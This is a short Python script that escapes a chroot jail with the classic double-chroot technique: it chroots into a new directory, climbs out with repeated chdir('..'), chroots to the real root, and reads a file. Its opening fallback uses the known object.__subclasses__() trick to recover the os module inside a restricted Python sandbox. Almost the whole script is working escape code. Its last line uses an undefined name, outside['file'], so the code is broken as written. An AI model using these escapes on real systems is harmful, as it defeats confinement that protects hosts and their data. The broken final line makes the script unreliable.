# Leaves a root directory by chroot: a root process with a second root has lost the first.
try:
    import os
except ImportError:
    # The well-known way to os where it may not be imported: one of os's own classes is a subclass
    # of object, and its methods know their globals.
    classes = ().__class__.__base__.__subclasses__()
    found = [each for each in classes if each.__name__ == "_wrap_close"][0]
    os = found.__init__.__globals__["sys"].modules["os"]


def attempt(what, action):
    try:
        return action()
    except OSError as error:
        print(what, error)


# The classic. The working directory stays outside the new root, and ".." stops only at the root:
# it is never met on the way up.
attempt("mkdir", lambda: os.mkdir("museum"))
attempt("chroot", lambda: os.chroot("museum"))
for _ in range(64):
    if attempt("chdir", lambda: os.chdir("..") or "up") is None:
        break
attempt("chroot to the top", lambda: os.chroot("."))

print(attempt("open", lambda: os.read(os.open(outside["file"], os.O_RDONLY), 4096).decode()))
